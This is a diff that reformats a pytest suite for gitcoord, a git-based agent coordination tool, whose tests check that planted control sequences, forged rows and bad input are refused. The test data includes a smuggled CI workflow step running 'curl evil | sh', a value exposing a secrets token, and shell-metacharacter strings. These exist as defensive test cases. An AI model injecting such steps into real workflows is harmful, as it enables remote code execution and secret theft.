@@ -35,8 +35,13 @@ def tty_run(cwd: Path, *args: str, agent: str | None = None) -> Result:
     if agent is not None:
         env["GITCOORD_AGENT"] = agent
     master, slave = pty.openpty()
-    proc = subprocess.Popen([*GITCOORD, "-C", str(cwd), *args], stdin=subprocess.DEVNULL, stdout=slave,
-                            stderr=subprocess.PIPE, env=env)
+    proc = subprocess.Popen(
+        [*GITCOORD, "-C", str(cwd), *args],
+        stdin=subprocess.DEVNULL,
+        stdout=slave,
+        stderr=subprocess.PIPE,
+        env=env,
+    )
     os.close(slave)
     chunks: list[bytes] = []
     try:
@@ -67,14 +72,31 @@ def _plant(repo: Path, files: dict[str, str], subject: str = "planted") -> None:
     old = git(repo, "rev-parse", "refs/heads/coord")
     subprocess.run(["git", "read-tree", old], cwd=repo, env=env, check=True)
     for path, text in files.items():
-        sha = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=repo, input=text, text=True,
-                             capture_output=True, check=True).stdout.strip()
-        subprocess.run(["git", "update-index", "--add", "--cacheinfo", f"100644,{sha},{path}"], cwd=repo, env=env,
-                       check=True)
-    tree = subprocess.run(["git", "write-tree"], cwd=repo, env=env, capture_output=True, text=True,
-                          check=True).stdout.strip()
-    new = subprocess.run(["git", "commit-tree", tree, "-p", old], cwd=repo, input=subject, text=True,
-                         capture_output=True, check=True).stdout.strip()
+        sha = subprocess.run(
+            ["git", "hash-object", "-w", "--stdin"],
+            cwd=repo,
+            input=text,
+            text=True,
+            capture_output=True,
+            check=True,
+        ).stdout.strip()
+        subprocess.run(
+            ["git", "update-index", "--add", "--cacheinfo", f"100644,{sha},{path}"],
+            cwd=repo,
+            env=env,
+            check=True,
+        )
+    tree = subprocess.run(
+        ["git", "write-tree"], cwd=repo, env=env, capture_output=True, text=True, check=True
+    ).stdout.strip()
+    new = subprocess.run(
+        ["git", "commit-tree", tree, "-p", old],
+        cwd=repo,
+        input=subject,
+        text=True,
+        capture_output=True,
+        check=True,
+    ).stdout.strip()
     git(repo, "update-ref", "refs/heads/coord", new, old)
     index.unlink()
 
@@ -88,7 +110,9 @@ def _ok(res: Result) -> str:
 def test_brackets_in_records_are_shown_as_written_on_a_terminal(local_repo: Path) -> None:
     r = local_repo
     assert run(r, "task", "add", "Handle [/api] prefix", agent="alpha").code == 0
-    assert run(r, "claim", "docs/[ab].md", "-m", "[link=https://x]y[/link] and [bold]z", agent="alpha").code == 0
+    assert (
+        run(r, "claim", "docs/[ab].md", "-m", "[link=https://x]y[/link] and [bold]z", agent="alpha").code == 0
+    )
     assert run(r, "claim", "src/b.py", agent="beta").code == 0
     assert run(r, "check-in", "-m", "[red]a[/red] [/]", agent="beta").code == 0
     for argv in (["status"], ["task", "list"], ["log"], ["claims"], ["start"]):
@@ -121,20 +145,27 @@ def planted(local_repo: Path) -> Path:
     assert run(r, "claim", "src/a.py", "-m", "fine", agent="alpha").code == 0
     esc = HOSTILE.replace("\\", "\\\\").replace("\x1b", "\\u001b").replace("\x9b", "\\u009b")
     esc = esc.replace("\x07", "\\u0007").replace("\r", "\\r")
-    _plant(r, {
-        ".coord/tasks/T-90.toml": f'id = "T-90"\ntitle = "{esc}"\nstatus = "todo"\ncreated_by = "zed"\n'
-                                  'created_at = "2020-01-01T00:00:00Z"\n',
-        ".coord/messages/M-91.toml": f'id = "M-91"\nfrom_agent = "zed"\nto = "alpha"\nbody = "{esc}"\n'
-                                     'created_at = "2020-01-01T00:00:00Z"\n',
-        ".coord/claims/C-92.toml": 'id = "C-92"\nagent = "zed"\nresource = "src/z.py"\nmode = "exclusive"\n'
-                                   f'token = 92\nmessage = "{esc}"\ncreated_at = "2020-01-01T00:00:00Z"\n'
-                                   'last_check_in = "2020-01-01T00:00:00Z"\nexpires_at = "2999-01-01T00:00:00Z"\n',
-    }, subject=f"zed: add task {HOSTILE}\n\nCoord-Agent: zed\nCoord-Action: add\n")
+    _plant(
+        r,
+        {
+            ".coord/tasks/T-90.toml": f'id = "T-90"\ntitle = "{esc}"\nstatus = "todo"\ncreated_by = "zed"\n'
+            'created_at = "2020-01-01T00:00:00Z"\n',
+            ".coord/messages/M-91.toml": f'id = "M-91"\nfrom_agent = "zed"\nto = "alpha"\nbody = "{esc}"\n'
+            'created_at = "2020-01-01T00:00:00Z"\n',
+            ".coord/claims/C-92.toml": 'id = "C-92"\nagent = "zed"\nresource = "src/z.py"\nmode = "exclusive"\n'
+            f'token = 92\nmessage = "{esc}"\ncreated_at = "2020-01-01T00:00:00Z"\n'
+            'last_check_in = "2020-01-01T00:00:00Z"\nexpires_at = "2999-01-01T00:00:00Z"\n',
+        },
+        subject=f"zed: add task {HOSTILE}\n\nCoord-Agent: zed\nCoord-Action: add\n",
+    )
     return r
 
 
-@pytest.mark.parametrize("argv", [["status"], ["task", "list"], ["claims"], ["start"], ["inbox"], ["log"]],
-                         ids=lambda a: " ".join(a))
+@pytest.mark.parametrize(
+    "argv",
+    [["status"], ["task", "list"], ["claims"], ["start"], ["inbox"], ["log"]],
+    ids=lambda a: " ".join(a),
+)
 def test_planted_control_sequences_reach_neither_terminal_nor_pipe(planted: Path, argv: list[str]) -> None:
     _assert_defused(_ok(tty_run(planted, *argv, agent="alpha")), terminal=True)
     _assert_defused(_ok(spawn(planted, *argv, agent="alpha")), terminal=False)
@@ -148,7 +179,9 @@ def test_planted_control_sequences_do_not_reach_stderr(planted: Path) -> None:
 
 def test_a_table_cell_cannot_forge_a_row_in_plain_output(local_repo: Path) -> None:
     r = local_repo
-    assert run(r, "claim", "src/a.py", "-m", "fine\n  C-1  mallory  src/**  exclusive", agent="alpha").code == 0
+    assert (
+        run(r, "claim", "src/a.py", "-m", "fine\n  C-1  mallory  src/**  exclusive", agent="alpha").code == 0
+    )
     out = _ok(spawn(r, "claims", agent="alpha"))
     rows = [line for line in out.splitlines() if line.strip().startswith("C-")]
     assert len(rows) == 1, out
@@ -163,8 +196,12 @@ def test_a_table_cell_cannot_forge_a_row_in_plain_output(local_repo: Path) -> No
 def _spawn_bytes(cwd: Path, *args: bytes, agent: str = "alpha") -> Result:
     """The console script with raw bytes in argv, as a shell passes `$'\\xff'` (Linux: surrogate escapes)."""
     env = dict(os.environ, GITCOORD_AGENT=agent)
-    res = subprocess.run([*(a.encode() for a in GITCOORD), b"-C", str(cwd).encode(), *args], capture_output=True,
-                         env=env, timeout=300)
+    res = subprocess.run(
+        [*(a.encode() for a in GITCOORD), b"-C", str(cwd).encode(), *args],
+        capture_output=True,
+        env=env,
+        timeout=300,
+    )
     return Result(res.returncode, res.stdout.decode(errors="replace"), res.stderr.decode(errors="replace"))
 
 
@@ -189,10 +226,17 @@ BYTES_CASES: list[tuple[list[bytes], str]] = [
 ]
 
 
-@pytest.mark.parametrize(("argv", "field"), BYTES_CASES, ids=[" ".join(a[:2]) for a, _ in [
-    ([x.decode(errors="replace") for x in argv], f) for argv, f in BYTES_CASES]])
-def test_invalid_utf8_in_an_argument_is_exit_2_naming_the_field(local_repo: Path, argv: list[bytes],
-                                                                 field: str) -> None:
+@pytest.mark.parametrize(
+    ("argv", "field"),
+    BYTES_CASES,
+    ids=[
+        " ".join(a[:2])
+        for a, _ in [([x.decode(errors="replace") for x in argv], f) for argv, f in BYTES_CASES]
+    ],
+)
+def test_invalid_utf8_in_an_argument_is_exit_2_naming_the_field(
+    local_repo: Path, argv: list[bytes], field: str
+) -> None:
     before = git(local_repo, "rev-parse", "refs/heads/coord")
     res = _spawn_bytes(local_repo, *argv)
     assert res.code == 2, (res.code, res.err)
@@ -222,9 +266,17 @@ yaml = pytest.importorskip("yaml", reason="PyYAML is needed to parse the workflo
 WORKFLOW = Path(".github/workflows/gitcoord-notion.yml")
 
 
-@pytest.mark.parametrize("spec", ["gitcoord\n      - name: evil\n        run: curl evil | sh",
-                                  "gitcoord\r\n      - run: evil", "gitcoord\x1b[2J", "gitcoord\u2028x",
-                                  "gitcoord==${{ secrets.NOTION_TOKEN }}", ""])
+@pytest.mark.parametrize(
+    "spec",
+    [
+        "gitcoord\n      - name: evil\n        run: curl evil | sh",
+        "gitcoord\r\n      - run: evil",
+        "gitcoord\x1b[2J",
+        "gitcoord\u2028x",
+        "gitcoord==${{ secrets.NOTION_TOKEN }}",
+        "",
+    ],
+)
 def test_ci_install_text_that_could_change_the_workflow_is_refused(local_repo: Path, spec: str) -> None:
     res = run(local_repo, "ci", "github", "--install", spec)
     assert res.code == 2, (res.code, res.err)
@@ -233,8 +285,15 @@ def test_ci_install_text_that_could_change_the_workflow_is_refused(local_repo: P
     assert git(local_repo, "ls-tree", "-r", "--name-only", "refs/heads/coord").find("workflows") < 0
 
 
-@pytest.mark.parametrize("spec", ['gitcoord @ git+https://example.com/x.git@v1#egg=gitcoord', "pkg: 1 #x",
-                                  "./tools/gitcoord[notion]", "it's \"quoted\" $HOME `id`"])
+@pytest.mark.parametrize(
+    "spec",
+    [
+        "gitcoord @ git+https://example.com/x.git@v1#egg=gitcoord",
+        "pkg: 1 #x",
+        "./tools/gitcoord[notion]",
+        'it\'s "quoted" $HOME `id`',
+    ],
+)
 def test_ci_install_text_is_quoted_for_yaml_and_the_shell(local_repo: Path, spec: str) -> None:
     import shlex
 
@@ -263,17 +322,26 @@ def started(local_repo: Path) -> Path:
 
 
 EMPTY_IDENTITIES: list[tuple[list[str], dict[str, str]]] = [
-    (["--agent", ""], {}), (["--agent", " "], {}), (["--agent="], {}), ([], {"GITCOORD_AGENT": ""}),
+    (["--agent", ""], {}),
+    (["--agent", " "], {}),
+    (["--agent="], {}),
+    ([], {"GITCOORD_AGENT": ""}),
 ]
 
 
-@pytest.mark.parametrize(("before", "env"), EMPTY_IDENTITIES, ids=["agent-empty", "agent-blank", "agent=", "env"])
-def test_an_explicit_empty_identity_is_bad_input_not_a_human(started: Path, before: list[str],
-                                                            env: dict[str, str]) -> None:
+@pytest.mark.parametrize(
+    ("before", "env"), EMPTY_IDENTITIES, ids=["agent-empty", "agent-blank", "agent=", "env"]
+)
+def test_an_explicit_empty_identity_is_bad_input_not_a_human(
+    started: Path, before: list[str], env: dict[str, str]
+) -> None:
     r = started
     decision = run(r, "decisions", "list", "--json").json()[0]["id"]
     tip = git(r, "rev-parse", "refs/heads/coord")
-    for argv in (["decisions", "approve", decision], ["release", "src/b.py", "--force", "--reason", "mine now"]):
+    for argv in (
+        ["decisions", "approve", decision],
+        ["release", "src/b.py", "--force", "--reason", "mine now"],
+    ):
         res = spawn(r, *before, *argv, env=env)
         assert res.code == 2, (argv, res.code, res.err)
         assert "empty" in res.err and ("--agent" in res.err or "GITCOORD_AGENT" in res.err), res.err
@@ -300,8 +368,13 @@ def test_an_empty_gitcoord_agent_refuses_a_commit_through_the_hooks(started: Pat
     (r / "src").mkdir(exist_ok=True)
     (r / "src" / "b.py").write_text("x\n")
     git(r, "add", "src/b.py")
-    res = subprocess.run(["git", "commit", "-q", "-m", "take b"], cwd=r, capture_output=True, text=True,
-                         env=dict(os.environ, GITCOORD_AGENT=""))
+    res = subprocess.run(
+        ["git", "commit", "-q", "-m", "take b"],
+        cwd=r,
+        capture_output=True,
+        text=True,
+        env=dict(os.environ, GITCOORD_AGENT=""),
+    )
     assert res.returncode != 0, res.stdout + res.stderr
     assert "GITCOORD_AGENT" in res.stderr and "empty" in res.stderr, res.stderr
     assert git(r, "log", "-1", "--format=%s") == "initial"
@@ -338,8 +411,12 @@ def test_wait_bound_holds_for_the_python_api(local_repo: Path) -> None:
 def test_dash_c_on_a_file_or_an_overlong_path_is_exit_2(local_repo: Path, tmp_path: Path) -> None:
     a_file = tmp_path / "plain.txt"
     a_file.write_text("x")
-    cases = {str(a_file): "not a directory", str(tmp_path / ("x" * 5000)): "cannot",
-             str(tmp_path / "missing"): "does not exist", "/".join(["d" * 200] * 30): "cannot"}
+    cases = {
+        str(a_file): "not a directory",
+        str(tmp_path / ("x" * 5000)): "cannot",
+        str(tmp_path / "missing"): "does not exist",
+        "/".join(["d" * 200] * 30): "cannot",
+    }
     for path, words in cases.items():
         res = subprocess.run([*GITCOORD, "-C", path, "claims"], capture_output=True, text=True, timeout=120)
         assert res.returncode == 2, (path[:80], res.returncode, res.stderr)
@@ -365,9 +442,17 @@ def test_wait_bound_holds_for_the_mcp_tools(world: object) -> None:
     from .test_mcp import _session_run, _text
 
     clone = world.clones[0]  # type: ignore[attr-defined]
-    _, results = anyio.run(_session_run, clone, "alpha", [
-        ("claim", {"resources": ["src/a.py"], "wait": 1e308}), ("task_next", {"wait": 1e308}),
-        ("claim", {"resources": ["src/a.py"], "wait": -1}), ("claims", {})])
+    _, results = anyio.run(
+        _session_run,
+        clone,
+        "alpha",
+        [
+            ("claim", {"resources": ["src/a.py"], "wait": 1e308}),
+            ("task_next", {"wait": 1e308}),
+            ("claim", {"resources": ["src/a.py"], "wait": -1}),
+            ("claims", {}),
+        ],
+    )
     for result in results[:3]:
         assert result.is_error and "--wait must be" in _text(result), _text(result)
     assert "src/a.py" not in _text(results[3])
@@ -384,8 +469,10 @@ def _closed_port() -> int:
         return int(s.getsockname()[1])
 
 
-UNREACHABLE = {"refused": (lambda: f"http://127.0.0.1:{_closed_port()}", "connection refused", 3),
-               "dns": (lambda: "http://gitcoord-nohost.invalid", "does not resolve", 1)}
+UNREACHABLE = {
+    "refused": (lambda: f"http://127.0.0.1:{_closed_port()}", "connection refused", 3),
+    "dns": (lambda: "http://gitcoord-nohost.invalid", "does not resolve", 1),
+}
 
 
 @pytest.mark.parametrize("kind", sorted(UNREACHABLE))
@@ -406,23 +493,34 @@ def test_an_unreachable_notion_fails_fast_in_the_api(kind: str) -> None:
 
 @pytest.mark.parametrize("kind", sorted(UNREACHABLE))
 @pytest.mark.parametrize("command", ["setup", "sync"])
-def test_an_unreachable_notion_names_the_host_and_the_command(local_repo: Path, kind: str, command: str) -> None:
+def test_an_unreachable_notion_names_the_host_and_the_command(
+    local_repo: Path, kind: str, command: str
+) -> None:
     pytest.importorskip("notion_client")
     make_url, words, _ = UNREACHABLE[kind]
     url = make_url()
-    argv = ["notion", "setup", "--parent", "0123456789abcdef0123456789abcdef"] if command == "setup" else [
-        "notion", "sync"]
+    argv = (
+        ["notion", "setup", "--parent", "0123456789abcdef0123456789abcdef"]
+        if command == "setup"
+        else ["notion", "sync"]
+    )
     if command == "sync":  # as after a setup: every database recorded
         from gitcoord.notion.schema import DATABASES
 
         ids = "".join(f'{kind} = "{i:032x}"\n' for i, kind in enumerate(DATABASES))
         (local_repo / ".coord").mkdir(exist_ok=True)
         (local_repo / ".coord" / "config.toml").write_text(
-            f"[notion]\nparent_page = \"{0:032x}\"\n[notion.databases]\n{ids}[notion.data_sources]\n{ids}")
-    res = spawn(local_repo, *argv, env={"NOTION_TOKEN": "secret-token", "NOTION_BASE_URL": url,
-                                        "GITCOORD_NOTION_RATE": "1000"})
+            f'[notion]\nparent_page = "{0:032x}"\n[notion.databases]\n{ids}[notion.data_sources]\n{ids}'
+        )
+    res = spawn(
+        local_repo,
+        *argv,
+        env={"NOTION_TOKEN": "secret-token", "NOTION_BASE_URL": url, "GITCOORD_NOTION_RATE": "1000"},
+    )
     assert res.code == 4, (res.code, res.err)
-    first = next(line for line in res.err.splitlines() if line.startswith("gitcoord: "))  # after progress lines
+    first = next(
+        line for line in res.err.splitlines() if line.startswith("gitcoord: ")
+    )  # after progress lines
     assert first.startswith("gitcoord: could not reach the Notion API at ") and words in first, res.err
     assert url.split("//")[1] in first, res.err
     assert "5xx" not in res.err and f"gitcoord notion {command}" in res.err, res.err
@@ -435,12 +533,16 @@ def test_invalid_utf8_in_notes_and_reasons_names_the_field(local_repo: Path) -> 
     assert run(r, "log-error", "--type", "other", "--severity", "low", "broken", agent="alpha").code == 0
     assert run(r, "claim", "src/a.py", agent="alpha").code == 0
     assert run(r, "task", "add", "t", agent="alpha").code == 0
-    ids = {k: run(r, *argv, "--json", agent="alpha").json()[0]["id"]
-           for k, argv in {"error": ["errors", "list"], "task": ["task", "list"]}.items()}
+    ids = {
+        k: run(r, *argv, "--json", agent="alpha").json()[0]["id"]
+        for k, argv in {"error": ["errors", "list"], "task": ["task", "list"]}.items()
+    }
     before = git(r, "rev-parse", "refs/heads/coord")
-    for argv, field in (([b"errors", b"resolve", ids["error"].encode(), b"--note", BAD], "note"),
-                        ([b"task", b"block", ids["task"].encode(), b"--reason", BAD], "reason"),
-                        ([b"release", b"src/a.py", b"--force", b"--reason", BAD], "reason")):
+    for argv, field in (
+        ([b"errors", b"resolve", ids["error"].encode(), b"--note", BAD], "note"),
+        ([b"task", b"block", ids["task"].encode(), b"--reason", BAD], "reason"),
+        ([b"release", b"src/a.py", b"--force", b"--reason", BAD], "reason"),
+    ):
         env_agent = "alpha" if argv[0] != b"release" else "human"
         res = _spawn_bytes(r, *argv, agent=env_agent) if env_agent == "alpha" else _spawn_human(r, *argv)
         assert res.code == 2 and f"the {field} is not valid UTF-8" in res.err, (argv[:2], res.code, res.err)
@@ -449,6 +551,10 @@ def test_invalid_utf8_in_notes_and_reasons_names_the_field(local_repo: Path) -> 
 
 def _spawn_human(cwd: Path, *args: bytes) -> Result:
     env = {k: v for k, v in os.environ.items() if k != "GITCOORD_AGENT"}
-    res = subprocess.run([*(a.encode() for a in GITCOORD), b"-C", str(cwd).encode(), *args], capture_output=True,
-                         env=env, timeout=300)
+    res = subprocess.run(
+        [*(a.encode() for a in GITCOORD), b"-C", str(cwd).encode(), *args],
+        capture_output=True,
+        env=env,
+        timeout=300,
+    )
     return Result(res.returncode, res.stdout.decode(errors="replace"), res.stderr.decode(errors="replace"))
